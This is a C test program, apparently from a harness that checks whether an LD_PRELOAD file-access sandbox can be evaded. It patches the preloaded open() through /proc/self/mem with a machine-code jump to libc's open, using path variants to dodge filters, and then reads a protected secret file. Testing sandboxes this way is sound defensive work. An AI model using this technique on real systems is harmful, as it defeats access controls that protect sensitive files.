/*
 * procmem.c — patch the preloaded open() out of the way through /proc/self/mem (which writes
 * through page protections), then read SECRET with a plain open().
 *
 * The preload library's open is what the global scope finds first; libc's own is found with
 * dlopen("libc.so.6"). A 12-byte absolute jump written over the first one sends every later
 * open() straight to libc. Without a preload library in front (the harness's control run) the
 * two are the same and nothing is patched.
 */
#include "bypass.h"

#include <dlfcn.h>
#include <stdint.h>

/* mem opened for writing, the way argv[1] says. */
static int open_mem(const char *how)
{
	if (how && !strcmp(how, "slashes"))
		return open("//proc/self/mem", O_RDWR);
	if (how && !strcmp(how, "devfd")) {
		int ro = open("/proc/self/mem", O_RDONLY);
		if (ro < 0)
			return -1;
		char link[32];
		snprintf(link, sizeof link, "/dev/fd/%d", ro);
		return open(link, O_RDWR);
	}
	return open("/proc/self/mem", O_RDWR);
}

int main(int argc, char **argv)
{
	const char *secret = target("BYPASS_SECRET");
	void *front = dlsym(RTLD_DEFAULT, "open");
	void *libc = dlopen("libc.so.6", RTLD_NOW | RTLD_NOLOAD);
	void *real = libc ? dlsym(libc, "open") : NULL;
	if (!front || !real)
		setup_fail("dlsym open");
	unsigned char code[16];
	size_t len;
#if defined(__x86_64__)
	code[0] = 0x48, code[1] = 0xb8; /* movabs rax, real */
	memcpy(code + 2, &real, 8);
	code[10] = 0xff, code[11] = 0xe0; /* jmp rax */
	len = 12;
#elif defined(__aarch64__)
	uint32_t ins[2] = {0x58000050, 0xd61f0200}; /* ldr x16, #8; br x16 */
	memcpy(code, ins, 8);
	memcpy(code + 8, &real, 8);
	len = 16;
#else
	say("SETUP-FAILED unsupported architecture");
	return 3;
#endif
	ATTEMPT("open /proc/self/mem for writing, patch open() at %p -> libc %p", front, real);
	if (front != real) {
		int mem = open_mem(argc > 1 ? argv[1] : NULL);
		if (mem < 0) {
			DONE("open /proc/self/mem refused errno=%d", errno);
			return 0;
		}
		if (pwrite(mem, code, len, (off_t)(uintptr_t)front) != (ssize_t)len) {
			DONE("pwrite /proc/self/mem refused errno=%d", errno);
			return 0;
		}
		say("NOTE patched");
	}
	int fd = open(secret, O_RDONLY);
	if (fd < 0) {
		DONE("open secret refused errno=%d", errno);
		return 0;
	}
	show_fd(fd);
	DONE("opened and read");
	return 0;
}
